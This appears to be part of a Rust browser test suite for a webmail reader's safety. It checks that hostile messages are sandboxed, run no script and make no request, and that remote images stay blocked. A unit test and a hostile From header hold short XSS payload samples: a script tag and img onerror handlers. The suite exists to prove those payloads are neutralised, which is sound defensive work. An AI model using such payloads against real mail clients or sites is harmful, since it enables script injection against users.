    let raw = "From: Ann Example <ann@example.org>\r\nTo: you@example.org\r\nSubject: Newsletter: autumn\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: text/plain\r\n\r\nAutumn news. https://example.org/news\r\n--a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<h1 style=\"color:#2457d6\">Autumn news</h1><p>Leaves are <b>falling</b>. Read more at <a href=\"https://example.org/news\">our site</a>.</p><img src=\"https://tracker.example/pixel.gif\" alt=\"(remote image)\"><table border=1><tr><td>Plain</td><td>table</td></tr></table>\r\n--a--\r\n";
    cx.open_mail(raw.as_bytes(), true).await?;
    let st = page_state(cx.b).await?;
    ensure(
        !st["frame"].is_null(),
        format!("HTML is preferred when present: {st}"),
    )?;
    ensure(
        st["remoteBar"] == true,
        format!("remote image blocked, bar shown: {st}"),
    )?;
    let links = cx
        .b
        .js(
            "const d = new DOMParser().parseFromString(document.querySelector('#body iframe').srcdoc, 'text/html');
             return [...d.querySelectorAll('a')].map(a => [a.getAttribute('href'), a.title, a.rel]);",
            vec![],
        )
        .await?;
    ensure(
        links
            == json!([[
                "https://example.org/news",
                "https://example.org/news",
                "noopener noreferrer"
            ]]),
        format!("links carry their real URL as title: {links}"),
    )?;
    cx.shot("html-message").await?;
    Ok(())
}

/// A message's own `<style>` sheet (kept by the sanitizer, filtered) takes effect inside its
/// frame: the styled newsletter of the corpus looks as designed (rules by class, id,
/// combinator and `:nth-child`), while the page around the frame holds none of its rules and
/// keeps its own look.
async fn message_style_sheets_apply_inside_the_frame_only(cx: &Ctx<'_>) -> R {
    let mail = cx
        .corpus
        .iter()
        .find(|m| m.name == "corpus/style-newsletter.eml")
        .ok_or("corpus/style-newsletter.eml missing")?;
    let page_before = cx
        .b
        .js(
            "return getComputedStyle(document.body).fontFamily + '|' + getComputedStyle(document.body).backgroundColor;",
            vec![],
        )
        .await?;
    cx.open_mail(&mail.raw, true).await?;
    let frame = cx.b.find("#body iframe:not([hidden])").await?;
    frame.enter_frame().await?;
    let inside = cx
        .b
        .js(
            "const css = (sel, prop) => { const e = document.querySelector(sel); return e ? getComputedStyle(e)[prop] : null; };
             return { sheets: document.styleSheets.length,
                      masthead: css('td.masthead', 'backgroundColor'),
                      h1: css('.masthead h1', 'fontSize'),
                      outer: css('#outer', 'backgroundColor'),
                      italic: css('td.column > p:first-child', 'fontStyle'),
                      button: css('a.button', 'backgroundColor'),
                      striped: css('tr:nth-child(2n+1) td.column', 'backgroundColor') };",
            vec![],
        )
        .await;
    cx.b.client.enter_parent_frame().await?;
    let v = inside?;
    ensure(
        v == json!({
            "sheets": 2,
            "masthead": "rgb(46, 94, 58)",
            "h1": "28px",
            "outer": "rgb(243, 239, 230)",
            "italic": "italic",
            "button": "rgb(200, 100, 42)",
            "striped": "rgb(250, 248, 243)",
        }),
        format!("the newsletter's sheet inside the frame: {v}"),
    )?;
    let page = cx
        .b
        .js(
            "return { look: getComputedStyle(document.body).fontFamily + '|' + getComputedStyle(document.body).backgroundColor,
                      rules: [...document.styleSheets].some(s => { try { return [...s.cssRules].some(r => r.cssText.includes('masthead')); } catch { return false; } }),
                      styled: document.querySelectorAll('.masthead, #outer').length };",
            vec![],
        )
        .await?;
    ensure(
        page["look"] == page_before && page["rules"] == false && page["styled"] == 0,
        format!("the page around the frame (before: {page_before}): {page}"),
    )?;
    cx.shot("styled-newsletter").await?;
    Ok(())
}

/// The inbox's reader (index.html, mock API) shows HTML through the same sandboxed frame,
/// offers the plain text, and forgets the message view when the reader closes.
async fn inbox_reader_uses_the_sandboxed_frame(cx: &Ctx<'_>, server: &WebBridge) -> R {
    const R: &str = "const r = document.querySelector('pop3-inbox').shadowRoot;";
    let b = cx.b;
    let wait = |what: &'static str, expr: &'static str| async move {
        b.wait_js(
            what,
            &format!("(() => {{ {R} return ({expr}); }})()"),
            Duration::from_secs(15),
        )
        .await
    };
    b.goto(&server.url("index.html?api=mock&server=mail.example.org&user=small"))
        .await?;
    wait("the account form", "r && !r.querySelector('.login').hidden").await?;
    b.type_in_shadow("pop3-inbox", "input[name=password]", "secret")
        .await?;
    b.click_in_shadow("pop3-inbox", "button.connect").await?;
    wait(
        "the first row",
        "r.querySelector('#row-27') && !r.querySelector('#row-27').classList.contains('loading')",
    )
    .await?;
    // Message 27 of the mock is HTML only.
    b.click_in_shadow("pop3-inbox", "#row-27").await?;
    wait(
        "the HTML frame",
        "r.querySelector('.message-html iframe.message-frame')",
    )
    .await?;
    let v = b
        .js(
            &format!(
                "{R} const f = r.querySelector('.message-html iframe');
                 return {{ sandbox: f.getAttribute('sandbox'), srcdoc: f.srcdoc.includes(\"default-src 'none'\"),
                          body: f.srcdoc.includes('<h1>Hi</h1>'), xss: window.__xss ?? null }};"
            ),
            vec![],
        )
        .await?;
    ensure(
        v["sandbox"] == "allow-popups allow-popups-to-escape-sandbox"
            && v["srcdoc"] == true
            && v["body"] == true,
        format!("reader frame: {v}"),
    )?;
    cx.shot("reader-html").await?;
    // Message 29 has a plain-text alternative: HTML first, then "Show plain text".
    b.click_in_shadow("pop3-inbox", "#row-29").await?;
    wait(
        "the alternative's HTML frame",
        "r.querySelector('.message-html iframe') && !r.querySelector('.toggle-plain').hidden",
    )
    .await?;
    b.click_in_shadow("pop3-inbox", ".toggle-plain").await?;
    wait(
        "the plain text in its own frame, the HTML frame gone",
        "r.querySelector('.message-html iframe.message-text-frame:not([hidden])') && !r.querySelector('.message-frame-slot iframe')",
    )
    .await?;
    let v = b
        .js(
            &format!(
                "{R} const f = r.querySelector('.message-text-frame');
                 f.dataset.kept = '1'; // to see it kept when toggling (instant, no new frame)
                 return {{ sandbox: f.getAttribute('sandbox'), srcdoc: f.srcdoc.includes(\"default-src 'none'\"),
                          prefetchOff: f.srcdoc.includes('<meta http-equiv=\"x-dns-prefetch-control\" content=\"off\">'),
                          pageLinks: r.querySelectorAll('.message-html a').length }};"
            ),
            vec![],
        )
        .await?;
    ensure(
        v["sandbox"] == "allow-popups allow-popups-to-escape-sandbox"
            && v["srcdoc"] == true
            && v["prefetchOff"] == true
            && v["pageLinks"] == 0,
        format!("reader plain-text frame: {v}"),
    )?;
    // What it shows, read inside the frame through WebDriver (the text the browser renders).
    let start = Instant::now();
    let shown = loop {
        let f = b
            .find_in_shadow("pop3-inbox", "iframe.message-text-frame:not([hidden])")
            .await?;
        f.enter_frame().await?;
        let text = async { b.client.find(Locator::Css("body")).await?.text().await }.await;
        b.client.enter_parent_frame().await?;
        let text = text.unwrap_or_default();
        if text.contains("saut de ligne doux") || start.elapsed() > Duration::from_secs(15) {
            break text;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    ensure(
        shown.contains("le café est prêt") && shown.contains("saut de ligne doux"),
        format!("the plain text shown in the reader's frame: {shown:?}"),
    )?;
    cx.shot("reader-plain").await?;
    // Back to HTML and to the text again: the same text frame, hidden and shown.
    b.click_in_shadow("pop3-inbox", ".toggle-plain").await?;
    wait(
        "the HTML frame again, the text frame hidden",
        "r.querySelector('.message-frame-slot iframe') && r.querySelector('.message-text-frame[hidden]')",
    )
    .await?;
    b.click_in_shadow("pop3-inbox", ".toggle-plain").await?;
    wait(
        "the same text frame shown again",
        "r.querySelectorAll('.message-text-frame').length === 1 && r.querySelector('.message-text-frame:not([hidden])[data-kept]') && !r.querySelector('.message-frame-slot iframe')",
    )
    .await?;
    b.click_in_shadow("pop3-inbox", "button.back").await?;
    wait(
        "the view to be forgotten",
        "r.querySelector('.reader').hidden && r.querySelector('.message-html').hidden && !r.querySelector('.message-html').children.length",
    )
    .await?;
    Ok(())
}

/// The real reader: every message of the corpus opened in `<pop3-inbox>` (mock API, user
/// `hostile`, on a page without CSP) runs no script and makes no request.
async fn inbox_reader_opens_the_corpus_without_script_or_request(
    cx: &Ctx<'_>,
    server: &WebBridge,
) -> R {
    const R: &str = "const r = document.querySelector('pop3-inbox').shadowRoot;";
    let b = cx.b;
    b.goto(&server.url("dev/safety-inbox.html")).await?;
    b.wait_js(
        "the account form",
        "customElements.get('pop3-inbox') && document.querySelector('pop3-inbox').shadowRoot",
        Duration::from_secs(15),
    )
    .await?;
    install_detector(b).await?;
    let n = cx.corpus.len();
    let mailbox: Vec<String> = cx
        .corpus
        .iter()
        .enumerate()
        .map(|(i, m)| {
            let raw = prepared(
                m,
                &format!("{}/i{}", cx.probe.base_url(), i + 1),
                &format!("i{}", i + 1),
            );
            base64::engine::general_purpose::STANDARD.encode(raw)
        })
        .collect();
    b.js(
        &format!(
            "window.__pop3MockMailbox = arguments[0].map(s => Uint8Array.from(atob(s), c => c.charCodeAt(0)));
             {R}
             // Mark every message frame once it has loaded (observer callbacks run before load).
             new MutationObserver(() => r.querySelectorAll('iframe:not([data-watched])').forEach(f => {{
               f.dataset.watched = '1';
               f.addEventListener('load', () => {{ f.dataset.loaded = '1'; }}, {{ once: true }});
             }})).observe(r, {{ subtree: true, childList: true }});
             return 1;"
        ),
        vec![json!(mailbox)],
    )
    .await?;
    b.type_in_shadow("pop3-inbox", "input[name=password]", "secret")
        .await?;
    b.click_in_shadow("pop3-inbox", "button.connect").await?;
    b.wait_js(
        "the newest row",
        &format!("(() => {{ {R} const row = r.querySelector('#row-{n}'); return row && !row.classList.contains('loading'); }})()"),
        Duration::from_secs(15),
    )
    .await?;
    b.js(
        &format!("{R} r.querySelector('.grid').focus(); return 1;"),
        vec![],
    )
    .await?;
    b.press(&[Key::Home]).await?;
    let mut failures = Vec::new();
    let mut framed = 0;
    let mut without_text = Vec::new();
    let mut hostile_headers_seen = false;
    for k in 0..n {
        let msg = n - k; // newest first
        let name = &cx.corpus[msg - 1].name;
        let before = cx.probe.hits().len();
        let signals = signal_count(b).await?;
        if k > 0 {
            b.press(&[Key::Escape, Key::Down]).await?;
        }
        b.press(&[Key::Enter]).await?;
        let shown = b
            .wait_js(
                &format!("message {msg} ({name}) in the reader"),
                &format!(
                    "(() => {{ {R} return !!(r.querySelector('.message-html .message-content') &&
                       (r.querySelector('.message-html iframe:not([hidden])[data-loaded]') ||
                        (r.querySelector('.message-frame-slot[hidden]') && !r.querySelector('.message-text-frame')) ||
                        r.querySelector('.reader-main .error'))); }})()"
                ),
                Duration::from_secs(10),
            )
            .await;
        if let Err(e) = shown {
            failures.push(e.to_string());
            continue;
        }
        tokio::time::sleep(SETTLE).await;
        let v = b
            .js(
                &format!(
                    "{R} const f = r.querySelector('.message-frame-slot iframe');
                     const doc = f ? f.srcdoc : '';
                     // What the frame's document shows: the text of its body, read from an
                     // inert parse of the same document (nothing runs or loads there). A frame
                     // counts as showing the message only when that text is not empty.
                     const shownText = doc ? (new DOMParser().parseFromString(doc, 'text/html').body?.textContent ?? '').trim() : '';
                     // Every frame of the view, the plain text's included.
                     const all = [...r.querySelectorAll('.message-html iframe')];
                     return {{ xss: window.__xss ?? null,
                              sandbox: all.length ? [...new Set(all.map((x) => x.getAttribute('sandbox')))].join(' | ') : 'none',
                              framed: !!(f && f.dataset.loaded && shownText.length > 0),
                              shownText: shownText.slice(0, 60),
                              subjectElements: r.querySelectorAll('.reader h2 *, .reader dd *').length,
                              headers: [...r.querySelectorAll('.reader h2, .reader dd')].map((e) => e.textContent).join('\\n') }};"
                ),
                vec![],
            )
            .await?;
        let hits: Vec<_> = cx
            .probe
            .hits()
            .into_iter()
            .skip(before)
            .map(|h| h.path)
            .collect();
        let sandbox_ok =
            v["sandbox"] == "none" || v["sandbox"] == "allow-popups allow-popups-to-escape-sandbox";
        if !hits.is_empty() || !v["xss"].is_null() || !sandbox_ok || v["subjectElements"] != 0 {
            failures.push(format!("{name} in the inbox: requests {hits:?}, state {v}"));
        }
        if v["framed"] == true {
            framed += 1;
        } else {
            without_text.push(name.as_str());
        }
        let ran = signals_since(b, signals).await?;
        if !ran.is_empty() {
            failures.push(format!("{name} in the inbox: scripts ran: {ran:?}"));
        }
        // The reader's own header fields (not a test page's): the hostile From name is shown,
        // as text, with no element made of it.
        if name == "corpus/headers-hostile.eml" {
            let headers = v["headers"].as_str().unwrap_or_default();
            hostile_headers_seen = true;
            if !headers.contains("<img src=x onerror=") {
                failures.push(format!(
                    "{name}: the reader does not show the hostile From name as text: {headers:?}"
                ));
            }
        }
    }
    eprintln!(
        "{}: inbox: {framed} of {n} messages shown in an HTML frame with their text; not: {without_text:?}",
        b.kind.name()
    );
    ensure(
        hostile_headers_seen,
        "corpus/headers-hostile.eml was not opened in the inbox",
    )?;
    ensure(
        framed >= MIN_HTML_WITH_TEXT,
        format!(
            "only {framed} messages were shown with their text in an HTML frame by the reader (at least {MIN_HTML_WITH_TEXT})"
        ),
    )?;
    ensure(failures.is_empty(), failures.join("\n"))
}

async fn run_all(kind: BrowserKind) {
    let started = Instant::now();
    // The bridge serves the test pages (web/dev/) only with its dev pages on.
    let server = WebBridge::with_dev_pages(e2e::browser::web_root()).await;
    let probe = CountingServer::start().await.expect("counting server");
    let control_probe = CountingServer::start().await.expect("counting server");
    let b = Browser::start(kind)
        .await
        .unwrap_or_else(|e| panic!("{} could not start: {e}", kind.name()));
    b.goto(&server.url("dev/safety.html"))
        .await
        .expect("test page");
    b.wait_js("the test page", "window.__safety", Duration::from_secs(15))
        .await
        .expect("test page ready");
    install_detector(&b).await.expect("the script detector");
    let mime = js_async(
        &b,
        "window.__safety.mimeAvailable().then(arguments[0])",
        vec![],
    )
    .await
    .unwrap_or(Json::Bool(false));
    let mut corpus = builtin_corpus();
    corpus.extend(file_corpus());
    let cx = Ctx {
        b: &b,
        probe: &probe,
        control_probe: &control_probe,
        corpus,
    };
    let mut failures = Vec::new();
    macro_rules! case {
        ($f:ident) => {
            if let Err(e) = $f(&cx).await {
                let _ = cx.shot(concat!("FAILED-", stringify!($f))).await;
                failures.push(format!("{}: {}", stringify!($f), e));
            }
        };
    }
    case!(detector_trips_on_a_frame_that_runs_scripts);
    case!(frame_alone_stops_every_script_and_every_request_but_firefox_srcset);
    if mime == true {
        case!(sanitized_view_blocks_scripts_and_remote_content_until_opt_in);
        case!(attachments_save_as_octet_stream_with_clean_names);
        case!(html_message_screenshot);
        case!(message_style_sheets_apply_inside_the_frame_only);
        case!(plain_text_links_only_http_https_mailto);
        if let Err(e) = inbox_reader_opens_the_corpus_without_script_or_request(&cx, &server).await
        {
            let _ = cx.shot("FAILED-inbox_reader_opens_the_corpus").await;
            failures.push(format!(
                "inbox_reader_opens_the_corpus_without_script_or_request: {e}"
            ));
        }
        if let Err(e) = inbox_reader_uses_the_sandboxed_frame(&cx, &server).await {
            let _ = cx
                .shot("FAILED-inbox_reader_uses_the_sandboxed_frame")
                .await;
            failures.push(format!("inbox_reader_uses_the_sandboxed_frame: {e}"));
        }
    } else {
        failures.push(
            "the wasm MIME API (parseMessage/renderHtml in web/pop3.js) is missing: run `cargo xtask build-web`".into(),
        );
    }
    // Anything late (a lazy request after the last check) still counts.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let scripts: Vec<_> = probe
        .hits()
        .into_iter()
        .filter(|h| is_script_path(&h.path))
        .collect();
    if !scripts.is_empty() {
        failures.push(format!("script/beacon requests at the end: {scripts:?}"));
    }
    let messages = cx.corpus.len();
    drop(cx);
    let _ = b.close().await;
    eprintln!(
        "{}: {messages} messages, {:.1} s",
        kind.name(),
        started.elapsed().as_secs_f64()
    );
    assert!(
        failures.is_empty(),
        "{} safety cases failed:\n{}",
        kind.name(),
        failures.join("\n")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_mail_is_safe_in_chromium() {
    run_all(BrowserKind::Chromium).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_mail_is_safe_in_firefox() {
    run_all(BrowserKind::Firefox).await;
}

#[test]
fn payload_markers_become_signals() {
    let raw = b"<script>window.__xss=1;top.__xss=1;parent.__xss=1</script><img onerror=window.top.__xss=3D1;x>";
    let out = String::from_utf8(with_signal(raw, "t1")).unwrap();
    let s = "top.postMessage('xss-t1','*')";
    assert_eq!(
        out,
        format!("<script>{s};{s};{s}</script><img onerror={s};x>")
    );
    assert_eq!(with_signal(b"__xss=2 a.__xss", "t"), b"__xss=2 a.__xss");
}

#[test]
fn srcset_urls_are_found() {
    assert_eq!(
        srcset_urls(
            br#"<img SRCSET="http://h/a.gif 1x, http://h/b.gif 2x"><source srcset=http://h/c>"#
        ),
        ["http://h/a.gif", "http://h/b.gif", "http://h/c"]
    );
}

#[test]
fn probe_token_is_replaced_everywhere() {
    let out = with_probe(b"a __PROBE__/x __PROBE__", "http://h/p");
    assert_eq!(out, b"a http://h/p/x http://h/p");
}
